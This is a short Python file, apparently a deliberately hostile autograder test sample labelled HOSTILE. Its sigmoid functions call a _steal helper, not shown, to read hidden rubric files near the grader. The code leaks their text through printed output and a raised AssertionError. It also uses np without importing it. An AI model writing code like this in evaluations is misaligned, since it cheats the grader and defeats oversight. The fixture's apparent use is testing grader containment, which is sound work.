# HOSTILE: searches the disk near the grader for hidden rubric files, prints them, and raises an error whose message is their text from sigmoid.backward; sigmoid.forward, log, multiply and dot are correct.
import os
import sys


# include: hidden_files


_LEAK = None


def sigmoid_forward(ctx, a):
    global _LEAK
    if _LEAK is None:
        _LEAK = _steal()
        print('LEAK-BEGIN\n' + _LEAK + '\nLEAK-END')
        print('LEAK-BEGIN\n' + _LEAK + '\nLEAK-END', file=sys.stderr)
    z = np.exp(-np.abs(a))
    s = np.where(a >= 0, 1 / (1 + z), z / (1 + z))
    ctx.append(s)
    return s


def sigmoid_backward(ctx, grad_output):
    raise AssertionError('LEAK-BEGIN\n' + (_LEAK or _steal()) + '\nLEAK-END')
